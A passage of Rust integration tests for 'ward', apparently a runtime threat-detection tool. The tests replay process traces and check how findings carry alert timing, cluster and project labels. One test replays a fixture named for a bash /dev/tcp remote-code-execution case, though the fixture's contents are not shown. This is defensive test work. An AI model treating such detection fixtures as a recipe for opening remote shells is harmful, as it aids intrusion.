    assert_eq!(findings(&out.stdout), Vec::<serde_json::Value>::new());
}

/// A rule decision still waiting for container metadata when the trace ends is decided then
/// (it alerts, `Engine::finish`), not lost: rules-wait without its last event, the one whose
/// time passes the third case's deadline.
#[test]
fn a_decision_still_waiting_at_the_end_of_a_replay_alerts() {
    let dir = repo().join("testdata/traces");
    let text = std::fs::read_to_string(dir.join("rules-wait.jsonl")).unwrap();
    let mut lines: Vec<&str> = text.lines().collect();
    let last = lines.pop().unwrap();
    assert!(
        last.contains("\"pid\":800"),
        "the trace's last event moved: {last}"
    );
    let tmp = tempfile::tempdir().unwrap();
    let cut = tmp.path().join("rules-wait-cut.jsonl");
    std::fs::write(&cut, lines.join("\n") + "\n").unwrap();
    let config = dir.join("rules-wait.toml");
    let out = ward(&[
        "replay",
        "--final",
        "--config",
        config.to_str().unwrap(),
        cut.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{out:?}");
    let got = findings(&out.stdout);
    let pids: Vec<i64> = got
        .iter()
        .map(|f| f["processes"][0]["pid"].as_i64().unwrap_or(0))
        .collect();
    assert_eq!(
        got.len(),
        2,
        "the controller's finding and the one decided at the end: {got:#?}"
    );
    assert!(
        pids.contains(&701),
        "the third case (pid 701) alerts at the end: {pids:?}"
    );
    let f = got
        .iter()
        .find(|f| f["processes"][0]["pid"] == 701)
        .unwrap();
    let evidence = f["sourceProperties"]["Evidence"].to_string();
    assert!(evidence.contains("container_metadata"), "{evidence}");
}

/// The cluster and project of `[agent]`, `--cluster`/`--project` and `WARD_CLUSTER`/
/// `WARD_PROJECT` (flags over the file) reach every finding: in the stream, in the store, and
/// its filters; the finding names stay the same.
#[test]
fn cluster_and_project_reach_every_finding() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("ward.toml");
    std::fs::write(
        &cfg,
        "[agent]\ncluster = \"from-file\"\nproject = \"file-project\"\n",
    )
    .unwrap();
    let run = |db: &str, extra: &[&str], env: &[(&str, &str)]| -> Vec<serde_json::Value> {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_ward"));
        cmd.current_dir(repo())
            .env_remove("WARD_DB")
            .env_remove("WARD_CLUSTER")
            .env_remove("WARD_PROJECT")
            .args(["replay", "--db", db])
            .args(extra)
            .arg("testdata/traces/rce-bash-dev-tcp.jsonl");
        for (k, v) in env {
            cmd.env(k, v);
        }
        let out = cmd.output().unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        findings(&out.stdout)
    };
    let plain_db = dir.path().join("plain.db");
    let plain = run(plain_db.to_str().unwrap(), &[], &[]);
    assert!(!plain.is_empty());
    assert!(plain
        .iter()
        .all(|f| f.get("cluster").is_none() && f.get("projectDisplayName").is_none()));

    let cfg_s = cfg.to_str().unwrap();
    let file_db = dir.path().join("file.db");
    let from_file = run(file_db.to_str().unwrap(), &["--config", cfg_s], &[]);
    assert!(from_file
        .iter()
        .all(|f| f["cluster"] == "from-file" && f["projectDisplayName"] == "file-project"));

    let flag_db = dir.path().join("flag.db");
    let db_s = flag_db.to_str().unwrap();
    let flagged = run(
        db_s,
        &["--config", cfg_s, "--cluster", "prod-eu"],
        &[("WARD_PROJECT", "shop")],
    );
    assert_eq!(flagged.len(), plain.len());
    for (f, p) in flagged.iter().zip(&plain) {
        assert_eq!(f["cluster"], "prod-eu");
        assert_eq!(f["projectDisplayName"], "shop");
        assert_eq!(f["name"], p["name"], "ids do not depend on the cluster");
    }
    let count = |filter: &str| {
        let out = ward(&[
            "findings", "list", "--db", db_s, "--format", "json", "--filter", filter,
        ]);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        findings(&out.stdout).len()
    };
    assert_eq!(count("resource.cluster=prod-eu project=shop"), plain.len());
    assert_eq!(count("cluster=from-file"), 0);
}
